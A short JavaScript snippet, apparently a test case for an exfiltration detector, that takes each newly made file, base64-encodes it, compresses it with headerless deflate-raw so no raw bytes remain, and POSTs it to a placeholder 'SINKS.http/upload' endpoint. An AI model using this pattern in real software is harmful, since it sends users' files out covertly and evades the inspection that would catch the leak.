// The file's base64, compressed without any header that names the format, so that no raw byte survives.
whenMade(async ({ bytes }) => {
  const text = new TextEncoder().encode(base64(bytes));
  fetch(`${SINKS.http}/upload`, { method: "POST", body: await compressed(text, "deflate-raw") });
});
